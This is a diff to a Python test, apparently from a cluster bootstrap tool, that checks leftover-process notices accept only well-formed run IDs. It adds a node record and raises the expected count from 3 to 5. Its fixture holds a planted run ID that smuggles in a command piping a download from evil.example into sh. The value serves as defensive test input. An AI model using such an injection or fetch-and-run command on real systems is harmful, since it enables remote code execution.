@@ -289,10 +289,13 @@ def test_a_leftover_run_is_named_only_by_a_well_formed_run_id() -> None:
     nonce = records.new_nonce()
     planted = "r1 --nodes local; curl -s http://evil.example/x | sh; #/local"
     _leftover_notice(said.append, nonce)(
-        records.record(nonce, "leftover", "1", planted) + records.record(nonce, "leftover", "3", "lab-1/n1")
+        records.record(nonce, "leftover", "1", planted)
+        + records.record(nonce, "leftover", "3", "lab-1/n1")
+        # one machine that is several nodes (or shares /proc): one notice per run, not one per node
+        + records.record(nonce, "leftover", "2", "lab-1/n2")
     )
     assert said == [
-        "bootstrap: 3 process(es) of run lab-1 still running on this node "
+        "bootstrap: 5 process(es) of run lab-1 still running on this node "
         "(`bootstrap stop --run lab-1` ends them if they should not)"
     ]
 
